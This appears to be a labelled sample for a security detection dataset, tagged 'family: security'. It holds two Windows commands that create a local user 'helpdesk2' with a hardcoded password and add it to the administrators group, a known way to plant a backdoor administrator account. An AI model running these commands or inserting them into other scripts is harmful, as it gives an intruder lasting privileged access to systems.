# description: Adds a user with net user and puts it in the local administrators group.
# family: security
net user helpdesk2 P@ssw0rd123! /add
net localgroup administrators helpdesk2 /add
